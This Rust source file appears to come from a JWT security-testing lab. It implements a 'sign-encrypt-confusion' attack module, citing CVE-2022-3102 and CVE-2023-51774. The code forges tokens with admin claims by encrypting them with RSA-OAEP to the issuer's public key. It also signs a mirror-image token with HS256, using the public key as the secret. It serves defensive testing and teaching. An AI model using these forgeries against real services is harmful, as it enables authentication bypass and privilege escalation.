//! An encrypted token where a signed one is expected.
//!
//! The flawed assumption: the token may say of itself whether it is signed or
//! encrypted. Both kinds are called JWT, and a library with one function for
//! both tells them apart by their dots. Whoever asked for a verified token gets
//! a decrypted one, which everybody can make who has the public key
//! (draft-ietf-oauth-rfc8725bis §2.3). Bitten: jwcrypto (CVE-2022-3102),
//! json-jwt (CVE-2023-51774).
//!
//! This is not `jwe-public-key-mint`: there a verifier expects encryption and
//! mistakes it for authentication; here it expects a signature and is talked
//! out of it. A verifier that does expect encryption is offered the mirror
//! image, a signed token.

use serde_json::Map;
use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::hs::Hs;
use crate::jwe::{self, Recipient};
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct SignEncryptConfusion;

static PROFILE: AttackProfile = AttackProfile {
    id: "sign-encrypt-confusion",
    title: "Encrypted token taken for a signed one",
    assumption: "A token may say of itself whether it is signed or encrypted.",
    class: AttackClass::Encryption,
    given: &[],
    isolated: false,
    breaks: &[Weakness::DecryptionForVerification],
    references: &[
        (
            "draft-ietf-oauth-rfc8725bis §2.3",
            "A library that returns what it decrypted where a signature was expected believes everybody.",
        ),
        (
            "RFC 8725 §3.3",
            "Every cryptographic operation is validated, and the caller says which there are to be.",
        ),
        (
            "RFC 7516 §9",
            "Signed and encrypted tokens can be told apart; that does not say which was wanted.",
        ),
        (
            "CVE-2022-3102",
            "PyPI jwcrypto before 1.4 decrypts a JWE where a signed JWT was expected; fixed in 1.4.",
        ),
        (
            "CVE-2023-51774",
            "RubyGems json-jwt before 1.15.3.1, and 1.16 before 1.16.6, does the same; fixed in both.",
        ),
    ],
    lesson: include_str!("../../lessons/sign-encrypt-confusion.md"),
};

impl Attack for SignEncryptConfusion {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let payload = mint::jwt_payload(view.wanted())?;
        notes.step(
            "Rewrites the claims: the subject becomes admin.",
            payload.as_str(),
        );
        let why = match view.scheme() {
            Scheme::Jwt(_) => return encrypted(view, &payload, notes),
            Scheme::Jwe(..) => {
                return Err(CannotForge::Inexpressible {
                    why: "an encrypted token is what the verifier expects".into(),
                    tried: vec![signed(view, notes)?],
                });
            }
            Scheme::Paseto(..) => {
                "version and purpose are compared as a whole, and no purpose encrypts to a public key"
            }
            Scheme::Biscuit => "a biscuit is signed, and there is no encrypted kind of it",
            Scheme::Session(_) => "the id of a session is neither signed nor encrypted",
        };
        let tried = encrypted(view, &payload, notes)?
            .into_iter()
            .map(|forgery| Forgery {
                analogue: Some("a JWE stands where the format has no encrypted kind".into()),
                ..forgery
            });
        Err(CannotForge::Inexpressible {
            why: why.into(),
            tried: tried.collect(),
        })
    }
}

/// The claims, encrypted to the RSA key that the issuer publishes.
fn encrypted(
    view: &AttackerView<'_>,
    payload: &str,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    use rsa::pkcs8::DecodePublicKey;
    let public = rsa::RsaPublicKey::from_public_key_pem(&view.issuer().rsa_pem)
        .map_err(|error| CannotForge::Failed(error.to_string()))?;
    let mut forgeries = Vec::new();
    for (variant, name, recipient) in [
        (
            "encrypted-by-rsa-oaep-256",
            "RSA-OAEP-256",
            Recipient::RsaOaep256(Box::new(public.clone())),
        ),
        (
            "encrypted-by-rsa-oaep",
            "RSA-OAEP",
            Recipient::RsaOaep(Box::new(public.clone())),
        ),
    ] {
        let token = jwe::seal(&recipient, &Map::new(), payload.as_bytes())?;
        notes.variant_step(
            variant,
            format!("Encrypts them by {name} to the RSA key that the issuer publishes. Nothing is signed."),
            view.issuer().rsa_pem.as_str(),
        );
        forgeries.push(Forgery::new(variant, token));
    }
    Ok(forgeries)
}

/// The mirror image: a signed token where an encrypted one is expected, under
/// the one secret that everybody has.
fn signed(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let variant = "signed-by-public-key";
    let key = view.issuer().rsa_pem.clone().into_bytes();
    let header = Map::from_iter([("alg".to_owned(), "HS256".into())]);
    let token = mint::jws(&header, view.wanted(), &Signature::Tag(Hs::S256, key))?;
    notes.variant_step(
        variant,
        "Signs them with HS256, the text of the issuer's public key for a secret.",
        token.as_str(),
    );
    Ok(Forgery::analogue(
        variant,
        token,
        "the mirror image: a signed token stands where an encrypted one is expected",
    ))
}
